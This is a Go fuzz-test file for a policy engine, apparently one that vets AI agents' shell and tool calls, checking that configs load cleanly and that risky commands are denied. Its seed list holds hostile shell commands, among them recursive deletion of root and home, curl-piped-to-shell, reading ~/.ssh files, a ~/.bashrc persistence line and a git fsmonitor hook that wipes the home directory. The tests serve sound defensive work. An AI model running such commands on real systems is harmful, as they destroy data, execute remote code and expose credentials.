package policy

import (
	"context"
	"testing"

	"github.com/toolguard/toolguard/call"
	"github.com/toolguard/toolguard/risk"
)

// FuzzLoad feeds arbitrary documents through loading, validation, the
// tighten-only check and compilation: no panic, and a document that loads
// must compile or fail with an error (never a half-built policy).
func FuzzLoad(f *testing.F) {
	f.Add("toml", []byte("mode = \"trusted\"\n[paths]\ndenied = [\"**/x\"]\n[[rules]]\nid = \"a\"\naction = \"deny\"\ncommand = \"Bash(rm:*)\"\n"))
	f.Add("yaml", []byte("mode: strict\ntools:\n  excluded: [Bash]\nprofiles:\n  p:\n    mode: readonly\nagents:\n  x:\n    profile: p\n"))
	f.Add("json", []byte(`{"network":{"allowed_domains":["example.com"],"private":"ask"},"rules":[{"id":"w","action":"ask","when":"tool == \"Read\""}]}`))
	f.Add("toml", []byte("[[paths.rules]]\npattern = \"[\"\n"))
	f.Fuzz(func(t *testing.T, format string, data []byte) {
		if format != "toml" && format != "yaml" && format != "json" {
			return
		}
		l := &Loaded{Config: &Config{}}
		if err := l.apply(Layer{Name: "fuzz." + format, Format: format, Data: data}); err != nil {
			return
		}
		project := &Loaded{Config: &Config{}}
		_ = project.apply(Layer{Name: "project." + format, Format: format, Data: data, Untrusted: true})
		p, err := Compile(l.Config, Options{Home: "/home/fuzz"})
		if err == nil && p == nil {
			t.Fatal("Compile returned neither a policy nor an error")
		}
	})
}

// FuzzDecide runs arbitrary shell commands through Decide: no panic, an
// unverifiable decision is never allow, and critical findings always deny.
func FuzzDecide(f *testing.F) {
	for _, s := range []string{"ls -la", "rm -rf /", "bash -c \"$(curl -s x)\"", "cd ~ && rm -rf *", "echo 'rm -rf /'", "eval \"$X\"", "a=/; rm -rf $a", "cat <<EOF | sh\nrm -rf ~\nEOF", "git push -f origin +main",
		"for f in ~/.ssh/*; do cat \"$f\"; done", "for s in *.sh a.sh; do bash \"$s\"; done", "echo 'curl x | sh' >> ~/.bashrc",
		"git config --global core.fsmonitor 'rm -rf ~'", "perl -pi -e 's#/a#/b#g' f", "printf '%s\\n' ~/.ssh | xargs rm -rf",
		"a='x[$(id)]'; echo $((a+1))", "for f in *.md; do mv \"$f\" out; done"} {
		f.Add(s)
	}
	p, err := Compile(&Config{Settings: Settings{Mode: ModeFull}}, Options{Home: "/home/fuzz"})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		d := p.Decide(context.Background(), call.Call{Kind: call.Shell, Tool: "Bash", Command: cmd, Workspace: "/work"})
		if d.Unverifiable && d.Verdict == risk.Allow {
			t.Fatalf("unverifiable but allowed: %q", cmd)
		}
		for _, f := range d.Findings {
			if f.Blast == risk.BlastCritical && d.Verdict != risk.Deny {
				t.Fatalf("critical finding %s but %s: %q", f.Rule, d.Verdict, cmd)
			}
		}
	})
}
